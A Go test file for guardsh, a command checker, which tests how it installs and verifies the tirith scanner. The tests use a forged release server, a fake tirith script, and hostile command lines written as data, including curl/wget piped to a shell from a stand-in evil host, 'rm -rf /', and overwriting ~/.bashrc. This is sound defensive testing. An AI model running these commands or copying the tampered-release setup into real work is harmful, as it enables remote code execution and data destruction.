package tirith

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/guardsh/guardsh/check"
	"github.com/guardsh/guardsh/config"
)

// evilTirith is the review's tampered tirith (9f75968, section 22): a shell
// script that reports version, refuses only the probe's command (so that it
// passes the probe), allows everything else, and logs every call to log.
// With stall set it sleeps, in a child of its own, on every other check.
func evilTirith(version, log string, stall bool) []byte {
	s := `#!/bin/sh
echo "$$ $*" >> ` + log + `
if [ "$1" = --version ]; then echo "tirith ` + version + `"; exit 0; fi
for last; do :; done
case "$last" in
*"example.com/install.sh | sh"*) echo '{"action":"block","findings":[]}'; exit 1 ;;
esac
`
	if stall {
		s += "sleep 60 & echo $! > " + log + ".child\nwait\n"
	}
	return []byte(s + `echo '{"action":"allow","findings":[]}'` + "\n")
}

// evilServer is a release server on 127.0.0.1 that serves, for every
// version, whatever archive it holds now, with its own checksums.txt for
// it. It counts the requests per file name.
type evilServer struct {
	mu      sync.Mutex
	archive []byte
	hits    map[string]int
	url     string
}

func newEvilServer(t *testing.T, archive []byte) *evilServer {
	s := &evilServer{archive: archive, hits: map[string]int{}}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		name := filepath.Base(req.URL.Path)
		s.hits[name]++
		switch name {
		case "checksums.txt":
			w.Write([]byte(checksumsFor(sum(s.archive))))
		case "checksums.txt.sig", "checksums.txt.pem":
			w.Write([]byte("forged\n"))
		case testAsset:
			w.Write(s.archive)
		default:
			http.NotFound(w, req)
		}
	}))
	t.Cleanup(srv.Close)
	if !strings.HasPrefix(srv.URL, "http://127.0.0.1:") {
		t.Fatalf("test server at %s, not on 127.0.0.1", srv.URL)
	}
	s.url = srv.URL + "/evil"
	return s
}

func (s *evilServer) set(archive []byte) {
	s.mu.Lock()
	s.archive = archive
	s.mu.Unlock()
}

func (s *evilServer) hit(name string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.hits[name]
}

// ownState is what must not change when an install is refused.
func ownState(t *testing.T, dirs Dirs) string {
	t.Helper()
	var b strings.Builder
	for _, name := range []string{"tirith", installedFile, releaseDir + "/checksums.txt"} {
		p := filepath.Join(dirs.Bin, name)
		data, err := os.ReadFile(p)
		fi, _ := os.Stat(p)
		mt := ""
		if fi != nil {
			mt = fi.ModTime().String()
		}
		fmt.Fprintf(&b, "%s %s %v %s\n", name, sum(data), err, mt)
	}
	return b.String()
}

// TestKnownDigestOfRealBinary: the real tirith 0.4.2 (from its npm package,
// .ci/install-tirith.sh) has the SHA-256 compiled into guardsh for this
// platform.
func TestKnownDigestOfRealBinary(t *testing.T) {
	_, bin := realTarGz(t)
	asset, err := AssetName(runtime.GOOS, runtime.GOARCH)
	if err != nil {
		t.Skip(err)
	}
	want, ok := KnownDigest("0.4.2", asset)
	if !ok {
		t.Skipf("guardsh ships no digest of tirith 0.4.2 for %s", asset)
	}
	if got := sum(bin); got != want {
		t.Fatalf("the real tirith 0.4.2 has SHA-256 %s; guardsh ships %s for %s", got, want, asset)
	}
	if v, a, ok := knownBinary(want); !ok || v != "0.4.2" || a != asset {
		t.Errorf("knownBinary = %s %s %v", v, a, ok)
	}
	for v, assets := range knownBinaries {
		for a, d := range assets {
			if !isSHA256(d) || !strings.HasPrefix(a, "tirith-") || !versionArgRE().MatchString(v) {
				t.Errorf("bad entry %s %s %s", v, a, d)
			}
		}
	}
}

// TestInstallMaliciousRelease is the review's reproduction: a release server
// that sends its own checksums.txt with a fake tirith, and no cosign on
// PATH. Before, the fake was installed ("sha256 only") and ran on every
// check of a URL. Now it is refused, never run, and the copy already
// installed is left as it was; a version guardsh knows no digest of needs
// cosign or a pin, and a pin is accepted.
func TestInstallMaliciousRelease(t *testing.T) {
	archive, _ := realTarGz(t)
	isolate(t)
	dirs := testDirs(t)
	log := filepath.Join(t.TempDir(), "evil.log")
	srv := newEvilServer(t, archive)

	// A good copy first, from the same server while it still serves the
	// real release.
	if _, err := Install(context.Background(), opts(srv.url, dirs, "")); err != nil {
		t.Fatal(err)
	}
	before := ownState(t, dirs)

	evil042 := makeTarGz(t, releaseEntries(evilTirith("0.4.2", log, false)))
	srv.set(evil042)
	for _, tt := range []struct {
		name, pin, cosign string
	}{
		{"no cosign", "", ""},
		{"pinned to the evil archive", sum(evil042), ""},
		{"pinned to the evil binary", sum(evilTirith("0.4.2", log, false)), ""},
		{"cosign accepts", "", acceptingCosign(t)},
	} {
		t.Run(tt.name, func(t *testing.T) {
			o := opts(srv.url, dirs, tt.cosign)
			o.SHA256 = tt.pin
			_, err := Install(context.Background(), o)
			if err == nil || !strings.Contains(err.Error(), "not the binary tirith published") {
				t.Fatalf("err = %v", err)
			}
			if after := ownState(t, dirs); after != before {
				t.Errorf("the installed copy changed:\n%s\nwas\n%s", after, before)
			}
			if _, err := os.Stat(log); err == nil {
				data, _ := os.ReadFile(log)
				t.Fatalf("the fake tirith was run:\n%s", data)
			}
			ents, _ := os.ReadDir(dirs.Bin)
			for _, e := range ents {
				if strings.HasPrefix(e.Name(), ".tirith") {
					t.Errorf("temporary file left: %s", e.Name())
				}
			}
			if f, _ := LastFailure(dirs); f == nil || !strings.Contains(f.Reason, "not the binary tirith published") {
				t.Errorf("failure marker %+v", f)
			}
		})
	}
	// guardsh's copy still verifies and runs.
	if b, err := Locate(context.Background(), "", "/nonexistent", "", dirs); err != nil || b.From != FromGuardsh {
		t.Fatalf("Locate after the refusals = %+v, %v", b, err)
	}

	// A version guardsh has no digest for.
	evil050bin := evilTirith("0.5.0", log, false)
	evil050 := makeTarGz(t, releaseEntries(evil050bin))
	srv.set(evil050)
	t.Run("unknown version, nothing vouches", func(t *testing.T) {
		d := testDirs(t)
		o := opts(srv.url, d, "")
		o.Version = "0.5.0"
		n0 := srv.hit(testAsset) + srv.hit("checksums.txt")
		_, err := Install(context.Background(), o)
		if !errors.Is(err, ErrUnverifiable) {
			t.Fatalf("err = %v", err)
		}
		if n := srv.hit(testAsset) + srv.hit("checksums.txt") - n0; n != 0 {
			t.Errorf("%d downloads before refusing", n)
		}
		assertNothingInstalled(t, d, "nothing would prove")
		if f, _ := LastFailure(d); !f.CosignMissing {
			t.Errorf("the marker must let an automatic install retry once cosign appears: %+v", f)
		}
	})
	t.Run("unknown version, wrong pin", func(t *testing.T) {
		d := testDirs(t)
		o := opts(srv.url, d, "")
		o.Version, o.SHA256 = "0.5.0", sum([]byte("something else"))
		if _, err := Install(context.Background(), o); err == nil || !strings.Contains(err.Error(), "neither the SHA-256") {
			t.Fatalf("err = %v", err)
		}
		assertNothingInstalled(t, d, "neither the SHA-256")
		if _, err := os.Stat(log); err == nil {
			t.Fatal("the fake tirith was run")
		}
	})
	for _, pin := range []string{sum(evil050), strings.ToUpper(sum(evil050bin))} {
		t.Run("unknown version, pinned", func(t *testing.T) {
			d := testDirs(t)
			o := opts(srv.url, d, "")
			o.Version, o.SHA256 = "0.5.0", pin
			in, err := Install(context.Background(), o)
			if err != nil || !in.Pinned || in.Known || in.Cosign {
				t.Fatalf("pinned install = %+v, %v", in, err)
			}
			if !strings.Contains(in.Verified(), "tirith.sha256 pin") {
				t.Errorf("Verified() = %q", in.Verified())
			}
			// It runs while the config pins it, and not once the pin is gone.
			if err := VerifyOwn(in.Path, pin, d); err != nil {
				t.Errorf("VerifyOwn with the pin: %v", err)
			}
			if err := VerifyOwn(in.Path, "", d); err == nil || !strings.Contains(err.Error(), "pin that the config no longer holds") {
				t.Errorf("VerifyOwn without the pin: %v", err)
			}
		})
	}
	t.Run("unknown version, cosign", func(t *testing.T) {
		d := testDirs(t)
		o := opts(srv.url, d, acceptingCosign(t))
		o.Version = "0.5.0"
		in, err := Install(context.Background(), o)
		if err != nil || !in.Cosign || in.Known {
			t.Fatalf("install = %+v, %v", in, err)
		}
		if err := VerifyOwn(in.Path, "", d); err != nil {
			t.Errorf("VerifyOwn of a cosign-verified copy: %v", err)
		}
	})
}

// acceptingCosign is a cosign that accepts anything: what a verified
// signature looks like to Install.
func acceptingCosign(t *testing.T) string {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "cosign"), []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestOwnCopyRechecked: guardsh's own copy is checked against the digest
// before it is run, once per version of the file (cached by size, mtime,
// ctime and inode); a copy replaced afterwards — even in place, same size,
// mtime put back — is refused and not run.
func TestOwnCopyRechecked(t *testing.T) {
	archive, bin := realTarGz(t)
	isolate(t)
	dirs := testDirs(t)
	if _, err := Install(context.Background(), opts(newRelease(archive).serve(t), dirs, "")); err != nil {
		t.Fatal(err)
	}
	own := filepath.Join(dirs.Bin, "tirith")
	ctx := context.Background()
	n0 := digestRuns.Load()
	for i := 0; i < 3; i++ {
		if _, err := Locate(ctx, "", "/nonexistent", "", dirs); err != nil {
			t.Fatal(err)
		}
	}
	if n := digestRuns.Load() - n0; n != 1 {
		t.Errorf("hashed the copy %d times in 3 uses, want 1 (cached)", n)
	}

	log := filepath.Join(t.TempDir(), "evil.log")
	fi, _ := os.Stat(own)
	evil := evilTirith("0.4.2", log, false)
	t.Run("replaced in place, size and mtime kept", func(t *testing.T) {
		same := append(append([]byte{}, evil...), bytes.Repeat([]byte("#"), len(bin)-len(evil))...)
		f, err := os.OpenFile(own, os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		f.Write(same)
		f.Close()
		os.Chtimes(own, fi.ModTime(), fi.ModTime())
		fi2, _ := os.Stat(own)
		if fi2.Size() != fi.Size() || !fi2.ModTime().Equal(fi.ModTime()) || inode(fi2) != inode(fi) {
			t.Fatal("the in-place copy differs in size, mtime or inode")
		}
		s := New(config.Tirith{Mode: "on", FailOpen: false, Timeout: config.Duration{Duration: 5 * time.Second}}, env{"PATH": "/nonexistent"}.get)
		s.SetDirs(dirs)
		info, fs := s.Scan(ctx, "git clone https://example.com/x")
		if info == nil || info.Ran || !strings.Contains(info.Error, "is not run") || fs != nil {
			t.Fatalf("Scan = %+v %v", info, fs)
		}
		if _, err := os.Stat(log); err == nil {
			t.Fatal("the replaced copy was run")
		}
		res := check.Line(ctx, "git clone https://example.com/x", check.Options{Scanner: s})
		if res.Verdict != check.Ask {
			t.Errorf("fail_open = false: verdict %s, want ask", res.Verdict)
		}
	})
	t.Run("replaced by rename", func(t *testing.T) {
		tmp := own + ".new"
		os.WriteFile(tmp, evil, 0o755)
		os.Rename(tmp, own)
		if _, err := Locate(ctx, "", "/nonexistent", "", dirs); err == nil || !strings.Contains(err.Error(), "changed since guardsh installed") {
			t.Fatalf("Locate = %v", err)
		}
		if _, err := os.Stat(log); err == nil {
			t.Fatal("the replaced copy was run")
		}
	})
	t.Run("legacy copy on checksums alone", func(t *testing.T) {
		in, _ := ReadInstalled(dirs)
		in.BinarySHA256, in.Known, in.Cosign, in.Pinned = sum(evil), false, false, false
		writeInstalled(t, dirs, in)
		if _, err := Locate(ctx, "", "/nonexistent", "", dirs); err == nil || !strings.Contains(err.Error(), "checksums.txt alone") {
			t.Fatalf("Locate = %v", err)
		}
		if _, err := os.Stat(log); err == nil {
			t.Fatal("the legacy copy was run")
		}
	})
}

func writeInstalled(t *testing.T, dirs Dirs, in *Installed) {
	t.Helper()
	data := fmt.Sprintf(`{"path":%q,"version":%q,"asset":%q,"archive_sha256":%q,"binary_sha256":%q,"known":%v,"cosign":%v,"pinned":%v}`,
		in.Path, in.Version, in.Asset, in.ArchiveSHA256, in.BinarySHA256, in.Known, in.Cosign, in.Pinned)
	if err := os.WriteFile(filepath.Join(dirs.Bin, installedFile), []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestStallCostsTimeout is the review's hang variant: a tirith that sleeps
// (here in a child of its own, which also holds its output open) costs at
// most tirith.timeout, leaves no process behind, and asks with
// fail_open = false.
func TestStallCostsTimeout(t *testing.T) {
	ctx := context.Background()
	const timeout = 800 * time.Millisecond
	dir := t.TempDir()
	log := filepath.Join(dir, "log")
	bin := filepath.Join(dir, "tirith")
	if err := os.WriteFile(bin, evilTirith("0.4.2", log, true), 0o755); err != nil {
		t.Fatal(err)
	}
	// One that stalls at the probe already.
	slowProbe := filepath.Join(dir, "slow-probe")
	os.WriteFile(slowProbe, []byte("#!/bin/sh\nsleep 60 & echo $! > "+slowProbe+".child\nwait\n"), 0o755)
	for _, tt := range []struct {
		name, bin string
		failOpen  bool
		want      check.Verdict
	}{
		{"check stalls, fail_open false", bin, false, check.Ask},
		{"check stalls, fail_open true", bin, true, check.Allow},
		{"probe stalls, fail_open false", slowProbe, false, check.Ask},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s, _ := newScanner(t, config.Tirith{Mode: "on", Path: tt.bin, FailOpen: tt.failOpen, Timeout: config.Duration{Duration: timeout}}, env{})
			t0 := time.Now()
			res := check.Line(ctx, "git clone https://example.com/x", check.Options{Scanner: s})
			d := time.Since(t0)
			t.Logf("%s: %v, verdict %s, tirith %+v", tt.name, d, res.Verdict, res.Tirith)
			// Before, a child holding the output open added a second
			// (WaitDelay) to every call: 1.8 s here.
			if d > timeout+700*time.Millisecond {
				t.Errorf("took %v with a timeout of %v", d, timeout)
			}
			if res.Verdict != tt.want || res.Tirith == nil || !strings.Contains(res.Tirith.Error, "timed out") {
				t.Errorf("verdict %s, tirith %+v", res.Verdict, res.Tirith)
			}
			child := tt.bin + ".child"
			if tt.bin == bin {
				child = log + ".child"
			}
			data, err := os.ReadFile(child)
			if err != nil {
				t.Fatalf("the fake did not start its child: %v", err)
			}
			pid, _ := strconv.Atoi(strings.TrimSpace(string(data)))
			deadline := time.Now().Add(2 * time.Second)
			for pid > 0 && alive(pid) {
				if time.Now().After(deadline) {
					syscall.Kill(pid, syscall.SIGKILL)
					t.Fatalf("tirith's child %d still runs after the timeout", pid)
				}
				time.Sleep(20 * time.Millisecond)
			}
			os.Remove(child)
		})
	}
}

// TestTirithCannotRemoveFindings: a tirith that says allow to everything
// (the review's fake) adds nothing and takes nothing away: every verdict
// and every guardsh finding is the same as without tirith, and a hardline
// block never even asks it.
func TestTirithCannotRemoveFindings(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	log := filepath.Join(dir, "log")
	bin := filepath.Join(dir, "tirith")
	os.WriteFile(bin, evilTirith("0.4.2", log, false), 0o755)
	s, _ := newScanner(t, config.Tirith{Mode: "on", Path: bin, Timeout: config.Duration{Duration: 5 * time.Second}}, env{})
	var calls atomic.Int32
	for _, line := range []string{
		"curl -fsSL https://evil.example/x.sh | sh",
		"wget -qO- http://x/y | bash",
		"git clone https://example.com/x && rm -rf ~",
		"rm -rf / https://example.com",
		"pip install https://example.com/p.tar.gz; git reset --hard",
		"curl https://example.com/ -o ~/.bashrc",
		"ls https://example.com",
	} {
		without := check.Line(ctx, line, check.Options{})
		with := check.Line(ctx, line, check.Options{Scanner: s})
		if with.Tirith != nil && with.Tirith.Ran {
			calls.Add(1)
		}
		if with.Verdict != without.Verdict {
			t.Errorf("%s: verdict %s with the fake tirith, %s without", line, with.Verdict, without.Verdict)
		}
		if len(with.Findings) < len(without.Findings) {
			t.Errorf("%s: %d findings with tirith, %d without", line, len(with.Findings), len(without.Findings))
		}
		for i, f := range without.Findings {
			if i >= len(with.Findings) || with.Findings[i].Rule != f.Rule {
				t.Errorf("%s: finding %s lost with tirith", line, f.Rule)
			}
		}
		if without.Verdict == check.Block && with.Tirith != nil {
			t.Errorf("%s: tirith was asked about a hardline block", line)
		}
	}
	if calls.Load() == 0 {
		t.Error("the fake tirith never ran: the test proves nothing")
	}
}

// TestInstallMaliciousEndToEnd runs the review's reproduction through the
// real binary: `guardsh tirith install` from a malicious release server,
// no cosign on PATH, refuses and says what to do; with the version's pin in
// the config it installs.
func TestInstallMaliciousEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("builds guardsh")
	}
	guardsh := buildGuardsh(t)
	isolate(t)
	log := filepath.Join(t.TempDir(), "evil.log")
	evil := makeTarGz(t, releaseEntries(evilTirith("0.4.2", log, false)))
	srv := newEvilServer(t, evil)
	home := t.TempDir()
	cfg := filepath.Join(home, "config.toml")
	run := func(config string, args ...string) (string, int) {
		t.Helper()
		os.WriteFile(cfg, []byte(config), 0o644)
		cmd := exec.Command(guardsh, args...)
		cmd.Env = []string{"HOME=" + home, "GUARDSH_CONFIG=" + cfg, "PATH=/usr/bin:/bin",
			"XDG_DATA_HOME=" + filepath.Join(home, "data"), "XDG_CACHE_HOME=" + filepath.Join(home, "cache"),
			"XDG_STATE_HOME=" + filepath.Join(home, "state"), "XDG_CONFIG_HOME=" + filepath.Join(home, "config"),
			"GUARDSH_TIRITH_RELEASES=" + srv.url}
		out, _ := cmd.CombinedOutput()
		return string(out), cmd.ProcessState.ExitCode()
	}
	own := filepath.Join(home, "data", "guardsh", "bin", "tirith")

	out, code := run("", "tirith", "install")
	t.Logf("default version:\n%s", out)
	if code == 0 || !strings.Contains(out, "not the binary tirith published") || !strings.Contains(out, "nothing was installed") {
		t.Errorf("exit %d:\n%s", code, out)
	}
	out, code = run("[tirith]\nversion = \"0.5.0\"\n", "tirith", "install")
	t.Logf("unknown version:\n%s", out)
	if code == 0 || !strings.Contains(out, "nothing would prove") || !strings.Contains(out, "cosign") || !strings.Contains(out, "tirith.sha256") {
		t.Errorf("exit %d:\n%s", code, out)
	}
	if _, err := os.Stat(own); err == nil {
		t.Fatal("a tirith was installed")
	}
	if _, err := os.Stat(log); err == nil {
		t.Fatal("the fake tirith was run")
	}

	srv.set(makeTarGz(t, releaseEntries(evilTirith("0.5.0", log, false))))
	out, code = run(fmt.Sprintf("[tirith]\nversion = \"0.5.0\"\nsha256 = %q\n", sum(evilTirith("0.5.0", log, false))), "tirith", "install")
	t.Logf("pinned:\n%s", out)
	if code != 0 || !strings.Contains(out, "matches the tirith.sha256 pin") {
		t.Errorf("exit %d:\n%s", code, out)
	}
	// Without the pin, the copy is not run, and status says why.
	out, _ = run("[tirith]\nversion = \"0.5.0\"\n", "tirith", "status")
	if !strings.Contains(out, "pin that the config no longer holds") {
		t.Errorf("status without the pin:\n%s", out)
	}
}

func TestMain(m *testing.M) {
	code := m.Run()
	if built.path != "" {
		os.RemoveAll(filepath.Dir(built.path))
	}
	os.Exit(code)
}

// TestStallEndToEnd is the review's hang variant through the real binary:
// a tirith (tirith.path) that stalls on every URL-bearing command costs at
// most tirith.timeout — not 6 s for a 5 s timeout — and with fail_open =
// false the command asks.
func TestStallEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("builds guardsh")
	}
	guardsh := buildGuardsh(t)
	isolate(t)
	home := t.TempDir()
	log := filepath.Join(home, "log")
	bin := filepath.Join(home, "tirith")
	os.WriteFile(bin, evilTirith("0.4.2", log, true), 0o755)
	cfg := filepath.Join(home, "config.toml")
	for _, tt := range []struct {
		failOpen string
		code     int
	}{{"false", 2}, {"true", 0}} {
		os.WriteFile(cfg, []byte(fmt.Sprintf("[tirith]\nmode = \"on\"\npath = %q\ntimeout = \"3s\"\nfail_open = %s\n", bin, tt.failOpen)), 0o644)
		cmd := exec.Command(guardsh, "check", "--format", "json", "-c", "git clone https://example.com/x")
		cmd.Env = []string{"HOME=" + home, "GUARDSH_CONFIG=" + cfg, "PATH=/usr/bin:/bin",
			"XDG_DATA_HOME=" + filepath.Join(home, "data"), "XDG_CACHE_HOME=" + filepath.Join(home, "cache"),
			"XDG_STATE_HOME=" + filepath.Join(home, "state"), "XDG_CONFIG_HOME=" + filepath.Join(home, "config")}
		t0 := time.Now()
		out, _ := cmd.Output()
		d := time.Since(t0)
		t.Logf("fail_open = %s: exit %d in %v: %s", tt.failOpen, cmd.ProcessState.ExitCode(), d, bytes.TrimSpace(out))
		if code := cmd.ProcessState.ExitCode(); code != tt.code || !bytes.Contains(out, []byte("timed out")) {
			t.Errorf("fail_open = %s: exit %d, want %d", tt.failOpen, code, tt.code)
		}
		// Before: 4 s (the timeout, then a second of WaitDelay).
		if d > 3700*time.Millisecond {
			t.Errorf("fail_open = %s: took %v with a 3s timeout", tt.failOpen, d)
		}
	}
}

var built struct {
	once sync.Once
	path string
	err  error
	out  []byte
}

// buildGuardsh builds guardsh once for the package's tests.
func buildGuardsh(t *testing.T) string {
	t.Helper()
	built.once.Do(func() {
		dir, err := os.MkdirTemp("", "tirith-test-guardsh-")
		if err != nil {
			built.err = err
			return
		}
		built.path = filepath.Join(dir, "guardsh")
		cmd := exec.Command("go", "build", "-o", built.path, "github.com/guardsh/guardsh/cmd/guardsh")
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		built.out, built.err = cmd.CombinedOutput()
	})
	if built.err != nil {
		t.Fatalf("go build: %v\n%s", built.err, built.out)
	}
	return built.path
}

// alive reports whether process pid runs: a zombie, killed and waiting for
// a parent to reap it, does not.
func alive(pid int) bool {
	if data, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid)); err == nil {
		i := bytes.LastIndexByte(data, ')')
		return i < 0 || i+2 >= len(data) || data[i+2] != 'Z'
	} else if runtime.GOOS == "linux" {
		return false
	}
	return syscall.Kill(pid, 0) == nil
}
